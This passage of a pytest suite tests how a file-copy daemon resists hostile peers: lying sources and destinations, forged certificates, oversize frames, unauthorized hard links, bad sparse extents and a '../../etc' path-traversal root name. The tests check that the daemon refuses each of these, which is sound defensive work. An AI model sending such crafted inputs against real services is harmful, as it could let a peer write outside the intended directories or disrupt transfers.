        with pytest.raises(ConnectionFailure):
            daemon.link(_core.Certificate.generate(), os.urandom(32), hello.fingerprint, 8.0)
        deadline = time.monotonic() + 15
        while daemon.alive() and time.monotonic() < deadline:
            time.sleep(0.1)
        assert not daemon.alive(), "rcpd kept running without its master"
        assert "HMAC" in daemon.diagnostics() or "auth" in daemon.diagnostics(), daemon.diagnostics()
    finally:
        daemon.stop()


def test_rcpd_refuses_garbage_on_its_control_link(tmp_path: Path) -> None:
    """Bytes that are not the link framing after the session key: rcpd says
    so and exits, nothing more."""
    daemon = LocalDaemon("destination", daemon_args(str(rcpd_path()), "destination", ""))
    try:
        daemon.hello(TIMEOUT)
        daemon.send_key(os.urandom(32) + b"")  # the key line...
        assert daemon._proc.stdin is not None  # noqa: SLF001
        daemon._proc.stdin.write(b"GET / HTTP/1.0\r\n\r\n")  # noqa: SLF001  ...then no preface
        deadline = time.monotonic() + 15
        while daemon.alive() and time.monotonic() < deadline:
            time.sleep(0.1)
        assert not daemon.alive(), "rcpd kept running on garbage"
        assert "preface" in daemon.diagnostics(), daemon.diagnostics()
    finally:
        daemon.stop()


class HostileDestination:
    """The other direction: the test plays the master and a lying destination
    against a real `rcpd --role source`. With `without_key`, the destination
    presents its announced certificate without the matching private key;
    the handshake must fail and `refusal` says how."""

    def __init__(self, without_key: bool = False) -> None:
        self.key = os.urandom(32)
        master_cert, self.cert = _core.Certificate.generate(), _core.Certificate.generate()
        opts = _core.QuicOptions()
        opts.handshake_timeout, opts.idle_timeout = 5.0, 10.0
        self.daemon = LocalDaemon("source", daemon_args(str(rcpd_path()), "source", ""))
        hello = self.daemon.hello(TIMEOUT)
        self.daemon.send_key(self.key)
        self.ctl = self.daemon.link(master_cert, self.key, hello.fingerprint, TIMEOUT)
        self.ctl.send(Msg.EXPECT_PEER, [self.cert.fingerprint])
        kind, fields = self.ctl.recv(timeout=TIMEOUT)
        assert kind == Msg.LISTENING, (kind, fields)
        identity = self.cert._test_only_without_its_key() if without_key else self.cert  # noqa: SLF001
        self.peer: _core.Link | None = None
        self.refusal = ""
        try:
            self.peer = _core.connect("127.0.0.1", int(fields[0]), identity, hello.fingerprint, self.key, options=opts)
        except _core.RcpError as exc:
            if not without_key:
                self.close()
                raise
            self.refusal = str(exc)

    def outcome(self) -> tuple[str, list]:
        deadline = time.monotonic() + TIMEOUT
        while time.monotonic() < deadline:
            try:
                kind, fields = self.ctl.recv(timeout=0.2)
            except _core.TimeoutError:
                if not self.daemon.alive():
                    return "exited", [self.daemon.diagnostics()]
                continue
            except _core.RcpError as exc:
                return "exited", [str(exc)]
            if kind in (Msg.RESULT, Msg.ERROR):
                return ("result" if kind == Msg.RESULT else "error"), fields
        raise AssertionError("the source neither answered nor exited")

    def close(self) -> None:
        for link in (self.peer, self.ctl):
            if link is not None:
                link.close("test over")
        self.daemon.stop()


@pytest.mark.parametrize("lie", ["unexpected message", "finished too early", "oversize frame on a data stream"])
def test_hostile_destination_cannot_hurt_the_source(tmp_path: Path, lie: str) -> None:
    src = tmp_path / "data"
    (src / "sub").mkdir(parents=True)
    for i in range(20):
        (src / "sub" / f"f{i}").write_bytes(os.urandom(3000))
    before = snapshot(tmp_path)
    hostile = HostileDestination()
    try:
        hostile.ctl.send(Msg.SEND, [[str(src)]])
        if lie == "unexpected message":
            hostile.peer.send(int(Msg.ROOT), [0, "../../etc", "d", ""])
        elif lie == "finished too early":
            hostile.peer.send(int(Msg.FINISHED), [])
        else:
            sid = hostile.peer.open_data()
            hostile.peer.write(sid, (0xFFFFFFFF).to_bytes(4, "big") + b"\x00" * 64)
            hostile.peer.finish(sid)
            time.sleep(0.5)
            hostile.peer.close("hanging up")  # and then it never answers
        kind, fields = outcome = hostile.outcome()
        if lie == "unexpected message":
            assert kind == "error" and "finished" in errors_of(outcome), outcome
        elif lie == "finished too early":
            # Before answering for the files it was told of: the source stops, saying so.
            assert kind == "error" and "finished before answering" in errors_of(outcome), outcome
        else:
            assert kind == "error", outcome
        deadline = time.monotonic() + 10
        while hostile.daemon.alive() and time.monotonic() < deadline:
            hostile.ctl.close("master done")
            time.sleep(0.1)
        status = hostile.daemon._proc.returncode  # noqa: SLF001
        assert status is not None and status >= 0, f"source rcpd ended by signal {status}"
    finally:
        hostile.close()
    assert snapshot(tmp_path) == before, "the source tree changed"


def test_source_refuses_the_announced_destination_certificate_without_its_key() -> None:
    """The source's listener pins the destination's fingerprint; a client
    presenting that (public) certificate without its private key fails the
    source rcpd's CertificateVerify check, before any application data."""
    hostile = HostileDestination(without_key=True)
    try:
        assert hostile.peer is None, "a destination without the pinned key got a link"
        # The source aborted the handshake itself (alert 51, decrypt_error), not on the pin.
        assert "aborted the TLS handshake (alert 51)" in hostile.refusal, hostile.refusal
        assert hostile.daemon.alive()  # still waiting for its real peer
    finally:
        hostile.close()


def test_data_only_for_files_the_destination_asked_for(world, hostile: HostileSource) -> None:
    """Protocol 4: a file that exists and differs is answered "kept"; data sent
    for it anyway (or for a file never announced) ends the copy, and the file
    stays as it was."""
    dest, _ = world
    (dest / "tree").mkdir()
    (dest / "tree" / "keep").write_bytes(b"mine")
    hostile.receive(dest)
    hostile.send(Msg.ROOT, [0, "tree", "d", ""])
    hostile.send(Msg.FILES, [0, [[0, "keep", 9, 1_600_000_000, 0, 0o644, b""]]])
    kind, fields = hostile.peer.recv(timeout=TIMEOUT)
    assert kind == Msg.VERDICTS and fields == [0, bytes([3])]  # kept
    hostile.stream(record("keep", b"overwrite"), announce=False)
    hostile.send(Msg.DONE, [1, 9])
    kind, fields = outcome = hostile.outcome()
    assert kind == "error" and "did not ask for" in errors_of(outcome), outcome
    assert (dest / "tree" / "keep").read_bytes() == b"mine"


@pytest.mark.parametrize("first", [1, 2**64 - 1])
def test_announcements_out_of_order_are_refused(world, hostile: HostileSource, first: int) -> None:
    dest, _ = world
    hostile.receive(dest)
    hostile.send(Msg.ROOT, [0, "tree", "d", ""])
    hostile.send(Msg.FILES, [first, [[0, "f", 1, 1_600_000_000, 0, 0o644, b""]]])
    kind, fields = outcome = hostile.outcome()
    assert kind == "error" and ("expected 0" in errors_of(outcome) or "2^64" in errors_of(outcome)), outcome
    assert not (dest / "tree" / "f").exists()


def test_a_sparse_chunk_writes_only_inside_its_file(world, hostile: HostileSource) -> None:
    """Protocol 5: a sparse chunk's extents lie inside the chunk, in order; its
    bytes are checked like any chunk's; the holes read as zeros."""
    dest, _ = world
    hostile.receive(dest)
    hostile.send(Msg.ROOT, [0, "tree", "d", ""])
    hostile.stream(record("ok", b"abcd", size=1 << 20, length=1 << 20, extents=[4096, 4]))
    hostile.stream(record("bad", b"wxyz", size=1 << 20, length=1 << 20, extents=[4096, 4], digest=b"\x00" * 16,
                          file_id=2))
    hostile.send(Msg.DONE, [2, 8])
    kind, fields = outcome = hostile.outcome()
    assert kind == "result" and fields[0] == 1 and fields[5] == 1, outcome
    assert "checksum mismatch" in errors_of(outcome)
    data = (dest / "tree" / "ok").read_bytes()
    assert len(data) == 1 << 20 and data[4096:4100] == b"abcd" and data.count(0) == (1 << 20) - 4
    assert os.stat(dest / "tree" / "ok").st_blocks * 512 <= 8192
    assert not (dest / "tree" / "bad").exists()


@pytest.mark.parametrize("extents", [[0, 5, 3, 4], [(1 << 20) - 2, 4], [0, 0], [0, 2**64 - 1], [1, 2, 3]])
def test_sparse_extents_outside_the_chunk_are_refused(world, hostile: HostileSource, extents: list[int]) -> None:
    dest, _ = world
    hostile.receive(dest)
    hostile.send(Msg.ROOT, [0, "tree", "d", ""])
    hostile.announce(0, "f", 1 << 20)
    hostile.stream(record("f", b"x" * 4, size=1 << 20, length=1 << 20, extents=extents), announce=False)
    hostile.send(Msg.DONE, [1, 4])
    outcome = hostile.outcome()
    assert outcome[0] in ("error", "exited"), outcome
    assert "extents" in errors_of(outcome) or outcome[0] == "exited", outcome
    assert not (dest / "tree" / "f").exists()


def test_a_hard_link_only_to_a_file_this_copy_writes(world, hostile: HostileSource) -> None:
    """-H: a later name is linked only to a first name this copy wrote in this
    run; naming a file that was there (or one not yet announced) gets nothing."""
    dest, _ = world
    (dest / "tree").mkdir()
    (dest / "tree" / "secret").write_bytes(b"the user's own")
    hostile.receive_v5(dest, hard_links=True)
    hostile.send(Msg.ROOT, [0, "tree", "d", ""])
    entry = [0, "secret", 9, 1_600_000_000, 0, 0o644, b"", True]
    hostile.send(Msg.FILES, [0, [entry, [0, "copy", 9, 1_600_000_000, 0, 0o644, b"", False, [0]]]])
    kind, fields = hostile.peer.recv(timeout=TIMEOUT)
    assert kind == Msg.VERDICTS and fields == [0, bytes([3, 0])]  # kept; the later name's data must come
    hostile.send(Msg.FILES, [2, [[0, "ahead", 9, 1_600_000_000, 0, 0o644, b"", False, [2]]]])
    kind, _ = outcome = hostile.outcome()
    assert kind == "error" and "not announced before it" in errors_of(outcome), outcome
    assert not (dest / "tree" / "copy").exists() and not (dest / "tree" / "ahead").exists()
    assert os.stat(dest / "tree" / "secret").st_nlink == 1


@pytest.mark.parametrize("hard_links, inode, why",
                         [(False, [1, 2], "without -H"), (True, [1, 2, 3], "inode"), (True, [1], "inode")])
def test_an_inode_only_with_hard_links_and_as_two_numbers(world, hostile: HostileSource, hard_links: bool,
                                                          inode: list[int], why: str) -> None:
    """A file entry's inode (appended in protocol 5, for a -H listing) is
    refused in a copy without -H, and as anything but [device, inode]."""
    dest, _ = world
    hostile.receive_v5(dest, hard_links=hard_links, dry_run=True)
    hostile.send(Msg.ROOT, [0, "tree", "d", ""])
    entry = [0, "f", 9, 1_600_000_000, 0, 0o644, b"", False, [], [], [], inode]
    hostile.send(Msg.FILES, [0, [entry]])
    kind, _ = outcome = hostile.outcome()
    assert kind == "error" and why in errors_of(outcome), outcome
    assert list(dest.iterdir()) == []


BLOCK = 4 << 20  # a --partial block


def _announce_a_partial_file(dest: Path, hostile: HostileSource) -> int:
    """A --partial receive and one file of three blocks and a bit, answered
    "send" with nothing to offer; its size."""
    size = 3 * BLOCK + 5
    hostile.receive_v5(dest, partial=True)
    hostile.send(Msg.ROOT, [0, "tree", "d", ""])
    hostile.send(Msg.FILES, [0, [[0, "big", size, 1_600_000_000, 0, 0o644, b""]]])
    kind, fields = hostile.peer.recv(timeout=TIMEOUT)
    assert kind == Msg.VERDICTS and fields == [0, bytes([0])]  # send, and nothing kept to offer
    return size


def test_reused_blocks_the_destination_did_not_offer_are_refused(world, hostile: HostileSource) -> None:
    """Protocol 5 (--partial): a source may skip only blocks the destination
    offered from its kept partial file; claiming others would leave a hole
    of whatever the disk held in the final file."""
    dest, _ = world
    size = _announce_a_partial_file(dest, hostile)
    payload = bytes(BLOCK)
    header = pack([Msg.CHUNK, 1, 0, "big", size, 0o644, 1_600_000_000, 0, 1, 4, BLOCK, BLOCK, [0, BLOCK], b"\x0d"])
    hostile.stream(frame(header) + payload + _core.xxh3_128(payload) + b"\x00", announce=False)
    hostile.send(Msg.DONE, [1, size])
    outcome = hostile.outcome()
    assert outcome[0] == "error" and "did not offer" in errors_of(outcome), outcome
    assert not (dest / "tree" / "big").exists()


def test_a_sparse_chunk_of_a_partial_file_is_refused(world, hostile: HostileSource) -> None:
    """Protocol 5: with --partial a large file's blocks travel whole; a sparse
    chunk would leave a resumed partial file's old bytes in its holes."""
    dest, _ = world
    size = _announce_a_partial_file(dest, hostile)
    payload = b"data"
    header = pack([Msg.CHUNK, 1, 0, "big", size, 0o644, 1_600_000_000, 0, 0, 4, 0, BLOCK, [4096, 4]])
    hostile.stream(frame(header) + payload + _core.xxh3_128(payload) + b"\x00", announce=False)
    hostile.send(Msg.DONE, [1, size])
    outcome = hostile.outcome()
    assert outcome[0] == "error" and "sparse chunk of a --partial file" in errors_of(outcome), outcome
    assert not (dest / "tree" / "big").exists()


def test_a_hard_link_without_dash_H_is_refused(world, hostile: HostileSource) -> None:
    """Only the user's -H (receive's hard_links) lets a source announce links:
    without it a link_first or link_to ends the copy, and nothing is linked."""
    dest, _ = world
    hostile.receive_v5(dest)
    hostile.send(Msg.ROOT, [0, "tree", "d", ""])
    first = [0, "first", 9, 1_600_000_000, 0, 0o644, b"", True]
    hostile.send(Msg.FILES, [0, [first, [0, "later", 9, 1_600_000_000, 0, 0o644, b"", False, [0]]]])
    kind, _ = outcome = hostile.outcome()
    assert kind == "error" and "without -H" in errors_of(outcome), outcome
    assert not (dest / "tree" / "first").exists() and not (dest / "tree" / "later").exists()


DEEP = "/".join(["d" * 250] * 200)  # a 50 KiB directory path: each name below it costs that much to keep


def test_later_names_waiting_for_a_first_name_are_bounded(world) -> None:
    """-H: a first name whose data never comes, and later names of it announced
    without end: past the destination's budget (64 MiB) they are asked for
    their data instead of waiting, so its memory stays bounded."""
    dest, _ = world
    hostile = HostileSource(["--stall-timeout", "2"])
    try:
        hostile.receive_v5(dest, hard_links=True)
        hostile.send(Msg.ROOT, [0, "tree", "d", ""])
        hostile.send(Msg.FILES, [0, [[0, "first", 9, 1_600_000_000, 0, 0o644, b"", True]]])
        kind, fields = hostile.peer.recv(timeout=TIMEOUT)
        assert kind == Msg.VERDICTS and fields == [0, bytes([0])]  # send (and it never comes)
        verdicts = b""
        number = 1
        for _ in range(100):  # 1600 later names of 50 KiB: 80 MiB
            later = [[0, f"{DEEP}/n{number + i}", 9, 1_600_000_000, 0, 0o644, b"", False, [0]] for i in range(16)]
            hostile.send(Msg.FILES, [number, later])
            kind, fields = hostile.peer.recv(timeout=TIMEOUT)
            assert kind == Msg.VERDICTS, kind
            verdicts += fields[1]
            number += 16
        linked, sent = verdicts.count(6), verdicts.count(0)
        assert linked + sent == 1600 and sent > 0, (linked, sent)
        assert linked * len(DEEP) < 64 << 20 and verdicts == bytes([6] * linked + [0] * sent)
        hostile.send(Msg.DONE, [number, 9 * number])
        kind, _ = outcome = hostile.outcome()
        assert kind == "error" and "arrived" in errors_of(outcome), outcome  # the stall timeout
        assert hostile.peak_rss_kib() < 200 * 1024, hostile.peak_rss_kib()
    finally:
        hostile.close()


def test_a_chunk_must_carry_the_announced_size(world, hostile: HostileSource) -> None:
    """Every chunk header's size is the one the destination decided on; a
    smaller one (which would leave a resumed --partial file's old tail) or a
    larger one ends the copy and leaves no file."""
    dest, _ = world
    hostile.receive(dest)
    hostile.send(Msg.ROOT, [0, "tree", "d", ""])
    hostile.announce(0, "f", 10)
    hostile.stream(record("f", b"x" * 5), announce=False)
    hostile.send(Msg.DONE, [1, 10])
    kind, _ = outcome = hostile.outcome()
    assert kind == "error" and "announced with 10" in errors_of(outcome), outcome
    assert not (dest / "tree" / "f").exists()


def test_a_partial_file_chunk_must_carry_the_announced_size(world, hostile: HostileSource) -> None:
    """The same with --partial: a block-sized file announced as three blocks
    and a bit, whose chunks then claim one block less."""
    dest, _ = world
    size = _announce_a_partial_file(dest, hostile)
    payload = bytes(BLOCK)
    hostile.stream(record("big", payload, size=size - BLOCK, nchunks=3), announce=False)
    hostile.send(Msg.DONE, [1, size])
    kind, _ = outcome = hostile.outcome()
    assert kind == "error" and f"announced with {size}" in errors_of(outcome), outcome
    assert not (dest / "tree" / "big").exists()


def test_a_dry_run_plan_is_bounded_in_bytes(world) -> None:
    """--dry-run: 700 planned files with 50 KiB paths (35 MiB) are more than
    the plan keeps (12 MiB): the rest are counted in plan_omitted, not sent
    (before, the plan's burst overran the control stream and the link failed)."""
    dest, _ = world
    hostile = HostileSource()
    try:
        hostile.receive_v5(dest, dry_run=True)
        hostile.send(Msg.ROOT, [0, "tree", "d", ""])
        for first in range(0, 700, 14):
            files = [[0, f"{DEEP}/n{first + i}", 1, 1_600_000_000, 0, 0o644, b""] for i in range(14)]
            hostile.send(Msg.FILES, [first, files])
            kind, _ = hostile.peer.recv(timeout=TIMEOUT)
            assert kind == Msg.VERDICTS, kind
        hostile.send(Msg.DONE, [0, 0])  # no data: a dry run answers every file "ignored"
        kind, fields = outcome = hostile.outcome()
        assert kind == "result" and fields[5] == 0, outcome
        omitted = fields[11]
        assert omitted > 0 and hostile.plan_entries + omitted == 700, (hostile.plan_entries, omitted)
        assert hostile.plan_entries * len(DEEP) <= 12 << 20
        assert list(dest.iterdir()) == []  # a dry run
    finally:
        hostile.close()
